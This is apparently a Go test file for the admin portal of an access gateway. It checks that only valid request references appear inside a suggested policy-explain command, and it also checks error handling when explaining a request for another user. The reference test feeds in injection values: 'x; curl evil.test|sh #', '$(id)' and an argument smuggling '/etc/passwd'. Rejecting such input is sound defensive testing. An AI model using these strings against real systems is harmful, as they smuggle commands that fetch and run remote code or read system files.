package portal_test

import (
	"net/http"
	"net/netip"
	"net/url"
	"testing"
	"time"

	"github.com/stepgate/stepgate/internal/account"
	"github.com/stepgate/stepgate/internal/decisions"
	"github.com/stepgate/stepgate/internal/portal"
	"github.com/stepgate/stepgate/internal/store"
	"github.com/stepgate/stepgate/policy"
)

// administrator is a browser in which an administrator has proven two factors, on a site that
// shows its one policy and keeps no refusals.
func (s *site) administrator(email string) *browser {
	s.t.Helper()
	must(s.t, s.Operator(false).SetGroups(s.t.Context(), s.user(email, true).ID, []string{account.AdminGroup}))
	s.gate.Portal = portal.New(portal.Config{
		Engine: s.Engine, Pages: s.gate.Pages, Log: func(string, error) {}, Refusals: decisions.NewRecent(1),
		Policies: func() []portal.PolicyInForce { return []portal.PolicyInForce{{Name: "p", Policy: s.gate.Policy()}} },
		Explain: func(*policy.Policy, string, string, netip.Addr, *policy.Subject, time.Time) (policy.Explanation, error) {
			return policy.Explanation{Outcome: "allow"}, nil
		},
	})
	b := s.browser()
	b.signIn(email)
	b.enrolApp()
	return b
}

// What somebody put into an address stands in a command only when it is a reference.
func TestOnlyAReferenceStandsInACommand(t *testing.T) {
	s := newSite(t, nil)
	b := s.administrator(alice)
	for reference, want := range map[string]bool{
		"request-abcdefghijklmnopqrstuvwx": true, "request-unknown": true,
		"x; curl evil.test|sh #": false, "request-a --log /etc/passwd": false, "request-a\n": true, "request-a\nb": false, "request-": false, "$(id)": false, "request-A1": false,
	} {
		p := b.get("/.stepgate/admin/refusals?reference=" + url.QueryEscape(reference))
		if p.status != http.StatusOK || p.says("stepgate policy explain") != want || p.says("is not a reference") == want {
			t.Errorf("%q: %d, a command: %v", reference, p.status, p.says("stepgate policy explain"))
		}
	}
}

// Whoever explains a request for somebody is told that nobody has an address only when nobody does.
func TestExplainingForSomebody(t *testing.T) {
	s := newSite(t, nil)
	b := s.administrator(alice)
	broken := s.user(bob, true)
	var c store.Change
	must(t, store.NewTable[string](s.db, "u/", 1).Put(&c, broken.ID, "no user", time.Time{}))
	must(t, s.db.Apply(t.Context(), c))
	for user, want := range map[string]int{
		alice: http.StatusOK, "nobody@example.org": http.StatusBadRequest, "nonsense": http.StatusBadRequest, broken.ID: http.StatusServiceUnavailable,
	} {
		p := b.get("/.stepgate/admin/policy?url=/x&user=" + url.QueryEscape(user))
		if p.status != want || p.says("Nobody has this address") != (want == http.StatusBadRequest) {
			t.Errorf("%s: %d, expected %d", user, p.status, want)
		}
	}
}
